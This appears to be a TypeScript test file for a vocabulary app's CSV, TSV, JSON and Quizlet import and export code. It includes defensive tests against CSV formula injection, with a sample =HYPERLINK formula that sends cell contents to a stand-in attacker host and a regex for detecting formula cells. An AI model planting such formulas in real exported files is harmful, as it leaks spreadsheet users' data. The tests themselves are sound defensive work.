import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { termKey } from './validation';
import {
  guessImportOptions,
  exportFileName,
  parseDelimited,
  neutralizeFormulas,
  parseImport,
  previewImport,
  restoreFormulas,
  toDelimited,
  type ImportDelimiter,
} from './portability';
import { decodeMessage, definitionSchema, normalizeSpaces, termSchema } from './validation';

const PUNCTUATION = `.!?'"’ʼ‘“”„«»()-–—:;/&+%@#$_*=¿¡…`;
/** Letters of many scripts (and digits), as code points a term or definition may hold. */
const letter = fc.oneof(
  fc.constantFrom(...Array.from('aZßąłїЄжΩλ中文字日本語한국어עבריתالعربيةहिन्दीไทย0123456789')),
  fc
    .integer({ min: 0x41, max: 0x2ffff })
    .map((code) => String.fromCodePoint(code))
    .filter((char) => /^[\p{L}\p{N}]$/u.test(char)),
);
const piece = fc.oneof(
  { weight: 6, arbitrary: letter },
  { weight: 1, arbitrary: fc.constantFrom(' ', ...Array.from(PUNCTUATION)) },
);
const textOf = (schema: typeof termSchema, extra: fc.Arbitrary<string>) =>
  fc
    .array(fc.oneof(piece, extra), { minLength: 1, maxLength: 30 })
    .map((chars) => chars.join(''))
    .filter((value) => value === normalizeSpaces(value) && schema.safeParse(value).success);

/** Often starts like a formula (or with the user's own apostrophes before one). */
const formulaLike = (schema: typeof termSchema, text: fc.Arbitrary<string>) =>
  fc
    .tuple(fc.constantFrom('', '', '=', '+', '-', '@', "'", "'=", "''-", '-@'), text)
    .map(([start, rest]) => start + rest)
    .filter((value) => value === normalizeSpaces(value) && schema.safeParse(value).success);
const term = formulaLike(termSchema, textOf(termSchema, fc.constant(',')));
const definition = formulaLike(definitionSchema, textOf(definitionSchema, fc.constant(';')));
const word = fc.record({
  term,
  definitions: fc.uniqueArray(definition, { minLength: 1, maxLength: 10, selector: termKey }),
});
const words = fc.uniqueArray(word, { minLength: 1, maxLength: 25, selector: (w) => termKey(w.term) });

const NO_LIMIT = { existingTerms: [], existingCount: 0, wordLimit: 5000 };
const messagesOf = (row: { problems: { message: string }[] }) =>
  row.problems.map((problem) => decodeMessage(problem.message));

describe('export → import round trip', () => {
  it.each<[string, ImportDelimiter]>([
    ['CSV', ','],
    ['semicolon', ';'],
    ['TSV', '\t'],
  ])('keeps every term and definition of random unicode words through %s', (_label, delimiter) => {
    fc.assert(
      fc.property(words, (original) => {
        const text = `\uFEFF${toDelimited(original, delimiter)}`;
        const parsed = parseImport(text, { format: 'delimited', delimiter });
        const preview = previewImport(parsed.entries, NO_LIMIT);
        expect(preview.blocked).toBe(false);
        expect(preview.words).toEqual(original);
        expect(preview.rows.map((row) => row.status)).toEqual(original.map(() => 'ready'));
      }),
      { numRuns: 300 },
    );
  });

  it('keeps them through the JSON export as well', () => {
    fc.assert(
      fc.property(words, (original) => {
        const text = JSON.stringify({
          format: 'wordhoard.dictionary',
          version: 1,
          dictionary: { name: 'Mine', fromLanguage: 'uk', toLanguage: 'en', words: original },
        });
        const parsed = parseImport(text, { format: 'json' });
        expect(parsed.dictionary).toEqual({ name: 'Mine', fromLanguage: 'uk', toLanguage: 'en' });
        expect(previewImport(parsed.entries, NO_LIMIT).words).toEqual(original);
      }),
      { numRuns: 100 },
    );
  });
});

describe('reading CSV and TSV', () => {
  it('follows RFC 4180 quoting, with line breaks inside quotes and the record’s first line', () => {
    const text = 'a,"b, c","say ""hi"""\r\n\r\n"multi\nline",x\nlast,"unclosed';
    expect(parseDelimited(text, ',')).toEqual([
      { line: 1, cells: ['a', 'b, c', 'say "hi"'] },
      { line: 3, cells: ['multi\nline', 'x'] },
      { line: 5, cells: ['last', 'unclosed'] },
    ]);
  });

  it('splits definition cells on commas and drops the empty cells spreadsheets pad rows with', () => {
    const parsed = parseImport('cat;kitty, puss;;\ndog;hound;;', { format: 'delimited', delimiter: ';' });
    expect(parsed.entries).toEqual([
      { line: 1, term: 'cat', definitions: ['kitty', 'puss'] },
      { line: 2, term: 'dog', definitions: ['hound'] },
    ]);
  });

  it('skips a header line when asked', () => {
    const parsed = parseImport('term,definition\nsun,Sonne', {
      format: 'delimited',
      delimiter: ',',
      skipHeader: true,
    });
    expect(parsed.entries).toEqual([{ line: 2, term: 'sun', definitions: ['Sonne'] }]);
  });

  it('reads Quizlet exports with any term and card separator', () => {
    expect(
      parseImport('sun\tSonne, Gestirn\nmoon\tMond\n', {
        format: 'quizlet',
        termSeparator: '\t',
        cardSeparator: '\n',
      }).entries,
    ).toEqual([
      { line: 1, term: 'sun', definitions: ['Sonne', 'Gestirn'] },
      { line: 2, term: 'moon', definitions: ['Mond'] },
    ]);
    expect(
      parseImport('sun - Sonne;\nmoon - Mond;star', {
        format: 'quizlet',
        termSeparator: ' - ',
        cardSeparator: ';',
      }).entries,
    ).toEqual([
      { line: 1, term: 'sun', definitions: ['Sonne'] },
      { line: 2, term: 'moon', definitions: ['Mond'] },
      { line: 2, term: 'star', definitions: [] },
    ]);
  });

  it('reports JSON it cannot read', () => {
    expect(parseImport('{ not json', { format: 'json' }).error).toBe('validation.invalidFile');
    expect(parseImport('{"something":1}', { format: 'json' }).error).toBe('validation.invalidFile');
    expect(parseImport('[{"term":"a","definitions":"b, c"}]', { format: 'json' }).entries).toEqual([
      { line: 1, term: 'a', definitions: ['b', 'c'] },
    ]);
  });

  it('guesses the format from the file name and first line', () => {
    expect(guessImportOptions('words.json', '')).toEqual({ format: 'json' });
    expect(guessImportOptions('words.tsv', 'a,b')).toEqual({ format: 'delimited', delimiter: '\t' });
    expect(guessImportOptions('x.csv', 'a;b;c, d')).toEqual({ format: 'delimited', delimiter: ';' });
    expect(guessImportOptions('x.txt', 'a,b')).toEqual({ format: 'delimited', delimiter: ',' });
  });
});

describe('the preview of each line', () => {
  const text = [
    'sun,Sonne',
    'moon<script>,Mond',
    `${'x'.repeat(64)},lang`,
    'empty',
    'Sun,noch einmal',
    'star,Stern,Stern',
    'sky,Himmel',
    'cloud,Wolke',
  ].join('\n');
  const { entries } = parseImport(text, { format: 'delimited', delimiter: ',' });

  it('names every problem of every line in the shared validation keys', () => {
    const preview = previewImport(entries, NO_LIMIT);
    expect(preview.rows.map((row) => [row.line, row.status, messagesOf(row).map((m) => m.key)])).toEqual([
      [1, 'ready', []],
      [2, 'error', ['validation.forbiddenCharacter']],
      [3, 'error', ['validation.maxLength']],
      [4, 'error', ['validation.definitionsRequired']],
      [5, 'skipped', ['validation.duplicateTermInFile']],
      [6, 'error', ['validation.duplicateDefinition']],
      [7, 'ready', []],
      [8, 'ready', []],
    ]);
    expect(messagesOf(preview.rows[2]!)[0]!.values).toEqual({ length: 63 });
    expect(messagesOf(preview.rows[4]!)[0]!.values).toEqual({ line: 1 });
    expect(preview.counts).toEqual({ total: 8, ready: 3, skipped: 1, errors: 4 });
    expect(preview.blocked).toBe(true);
    expect(preview.words.map((w) => w.term)).toEqual(['sun', 'sky', 'cloud']);
  });

  it('skips terms already in the dictionary, ignoring case', () => {
    const preview = previewImport(
      parseImport('SKY,Himmel\nsea,Meer', { format: 'delimited', delimiter: ',' }).entries,
      {
        existingTerms: ['sky'],
        existingCount: 1,
        wordLimit: 100,
      },
    );
    expect(preview.rows.map((row) => row.status)).toEqual(['skipped', 'ready']);
    expect(messagesOf(preview.rows[0]!)[0]!.key).toBe('validation.termExists');
    expect(preview.blocked).toBe(false);
  });

  it('marks the lines past the role’s word limit as errors', () => {
    const lines = Array.from({ length: 5 }, (_, index) => `w${index},d`).join('\n');
    const preview = previewImport(parseImport(lines, { format: 'delimited', delimiter: ',' }).entries, {
      existingTerms: ['old1', 'old2'],
      existingCount: 2,
      wordLimit: 5,
    });
    expect(preview.rows.map((row) => row.status)).toEqual(['ready', 'ready', 'ready', 'error', 'error']);
    expect(messagesOf(preview.rows[3]!)[0]).toEqual({
      key: 'validation.overWordLimit',
      values: { limit: 5 },
    });
    expect(preview.blocked).toBe(true);
  });
});

/** A place a spreadsheet may start a cell (also with another separator), then a formula character. */
const FORMULA_CELL = /(?:^|[,;\t\r\n])[=+\-@\t\r]/;

describe('cells a spreadsheet would run as formulas (CSV injection)', () => {
  const cases: [string, string][] = [
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
    ['+1', "'+1"],
    ['-x', "'-x"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1+1', "'\t'=1+1"],
    ['\r@x', "'\r'@x"],
    ['-ing', "'-ing"],
    ['@home', "'@home"],
    ["'=x", "''=x"],
    ["''-x", "'''-x"],
    ["'", "'"],
    ["'tis", "'tis"],
    ["rock 'n' roll", "rock 'n' roll"],
    ['well-known', 'well-known'],
    ['e=mc2', 'e=mc2'],
    ['x, -y; @z', 'x, -y; @z'],
    ['a;=1+1', "a;'=1+1"],
    ["a,-b;'+c", "a,'-b;''+c"],
    ['', ''],
  ];

  it.each(cases)('writes %j as %j and reads it back', (original, written) => {
    expect(neutralizeFormulas(original)).toBe(written);
    expect(FORMULA_CELL.test(written)).toBe(false);
    expect(restoreFormulas(written)).toBe(original);
  });

  it('neutralizes CSV and TSV exports and reads them back to the same words', () => {
    const original = [
      { term: '=HYPERLINK("http://evil.example/?"&A1,"click")', definitions: ['+1', '-x'] },
      { term: '@SUM(1)', definitions: ["'=x", "'tis", 'a;=1+1'] },
    ];
    const csv = toDelimited(original);
    expect(csv).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'+1,'-x\r\n` + `'@SUM(1),''=x,'tis,a;'=1+1\r\n`,
    );
    expect(toDelimited([{ term: '\t-tab', definitions: ['@x'] }], '\t')).toBe(`"'\t'-tab"\t'@x\r\n`);
    for (const delimiter of [',', ';', '\t'] as const) {
      const text = `\uFEFF${toDelimited(original, delimiter)}`;
      for (const { cells } of parseDelimited(text, delimiter)) {
        for (const cell of cells) expect(FORMULA_CELL.test(cell)).toBe(false);
      }
      expect(parseImport(text, { format: 'delimited', delimiter }).entries).toEqual([
        { line: 1, ...original[0] },
        { line: 2, ...original[1] },
      ]);
    }
  });

  it('keeps the apostrophes of a file that did not come from us', () => {
    expect(
      parseImport("'tis,it is\n'n',and\n''quoted'',x", { format: 'delimited', delimiter: ',' }).entries,
    ).toEqual([
      { line: 1, term: "'tis", definitions: ['it is'] },
      { line: 2, term: "'n'", definitions: ['and'] },
      { line: 3, term: "''quoted''", definitions: ['x'] },
    ]);
  });

  /** Any text, thick with the characters that matter here. */
  const anyText = fc.oneof(
    fc.string({
      unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ',', ';', '"', ' ', 'a', 'é', 'ї'),
      maxLength: 12,
    }),
    fc.string({ unit: 'grapheme', maxLength: 12 }),
    fc.string({ unit: 'binary', maxLength: 12 }),
  );

  it('reads back exactly what it wrote, for every string, and leaves no formula cell', () => {
    fc.assert(
      fc.property(anyText, (original) => {
        const written = neutralizeFormulas(original);
        expect(FORMULA_CELL.test(written)).toBe(false);
        expect(restoreFormulas(written)).toBe(original);
      }),
      { numRuns: 3000 },
    );
  });

  it.each<ImportDelimiter>([',', ';', '\t'])(
    'round-trips records of any strings through a file with %j, cell for cell',
    (delimiter) => {
      const record = fc.record({
        term: anyText,
        definitions: fc.array(anyText, { minLength: 1, maxLength: 4 }),
      });
      fc.assert(
        fc.property(fc.array(record, { minLength: 1, maxLength: 6 }), (original) => {
          const records = parseDelimited(`\uFEFF${toDelimited(original, delimiter)}`, delimiter);
          for (const { cells } of records) {
            for (const cell of cells) expect(FORMULA_CELL.test(cell)).toBe(false);
          }
          expect(records.map(({ cells }) => cells.map(restoreFormulas))).toEqual(
            original.map(({ term, definitions }) => [term, ...definitions]),
          );
        }),
        { numRuns: 500 },
      );
    },
  );
});

describe('writing', () => {
  it('quotes only what needs it and ends records with CRLF', () => {
    expect(toDelimited([{ term: 'a, b', definitions: ['say "x"', 'plain'] }])).toBe(
      '"a, b","say ""x""",plain\r\n',
    );
    expect(toDelimited([{ term: 'a;b', definitions: ['c'] }], ';')).toBe('"a;b";c\r\n');
  });

  it('makes a file name from any dictionary name', () => {
    expect(exportFileName('Deutsch A1', 'csv')).toBe('Deutsch-A1.csv');
    expect(exportFileName('Мої слова!', 'json')).toBe('Мої-слова.json');
    expect(exportFileName('$$$', 'csv')).toBe('dictionary.csv');
  });
});

describe('example sentences (decision 0060)', () => {
  const word = {
    term: 'cat',
    definitions: ['Katze', 'Kater'],
    examples: ['The cat, the hat.', '-ing words, "quoted"'],
  };

  it('writes each example in its own cell after a "> " mark, and reads it back', () => {
    for (const delimiter of [',', ';', '\t'] as const) {
      const text = toDelimited([word], delimiter);
      const [entry] = parseImport(text, { format: 'delimited', delimiter }).entries;
      expect(entry, delimiter).toEqual({ line: 1, ...word });
    }
    expect(toDelimited([word])).toBe('cat,Katze,Kater,"> The cat, the hat.","> -ing words, ""quoted"""\r\n');
  });

  it('reads files without examples as before, with no examples key', () => {
    const [entry] = parseImport('cat,"Katze, Kater",,\r\n', { format: 'delimited', delimiter: ',' }).entries;
    expect(entry).toEqual({ line: 1, term: 'cat', definitions: ['Katze', 'Kater'] });
    const json = parseImport(JSON.stringify([{ term: 'cat', definitions: ['Katze'] }]), { format: 'json' });
    expect(json.entries).toEqual([{ line: 1, term: 'cat', definitions: ['Katze'] }]);
  });

  it('reads examples from JSON and from a Quizlet card after its definitions', () => {
    const json = parseImport(JSON.stringify({ words: [word] }), { format: 'json' });
    expect(json.entries).toEqual([{ line: 1, ...word }]);
    const quizlet = parseImport('cat\tKatze, Kater > The cat sleeps. >  Cats   purr. \ndog\tHund', {
      format: 'quizlet',
      termSeparator: '\t',
      cardSeparator: '\n',
    });
    expect(quizlet.entries).toEqual([
      { line: 1, term: 'cat', definitions: ['Katze', 'Kater'], examples: ['The cat sleeps.', 'Cats purr.'] },
      { line: 2, term: 'dog', definitions: ['Hund'] },
    ]);
  });

  it('judges examples in the preview: six, too long or repeated ones are errors on the examples', () => {
    const context = { existingTerms: [], existingCount: 0, wordLimit: 100 };
    const preview = previewImport(
      [
        { line: 1, term: 'cat', definitions: ['Katze'], examples: ['a', 'b', 'c', 'd', 'e', 'f'] },
        { line: 2, term: 'dog', definitions: ['Hund'], examples: ['x'.repeat(256)] },
        { line: 3, term: 'cow', definitions: ['Kuh'], examples: ['Moo.', 'MOO.'] },
        { line: 4, term: 'hen', definitions: ['Huhn'], examples: ['The hen, the egg.'] },
      ],
      context,
    );
    expect(preview.rows.map((row) => [row.status, row.problems.map((problem) => problem.field)])).toEqual([
      ['error', ['examples']],
      ['error', ['examples']],
      ['error', ['examples']],
      ['ready', []],
    ]);
    expect(preview.rows[0]?.problems[0]?.message).toBe('validation.tooManyExamples|{"count":5}');
    expect(preview.words).toEqual([{ term: 'hen', definitions: ['Huhn'], examples: ['The hen, the egg.'] }]);
  });
});
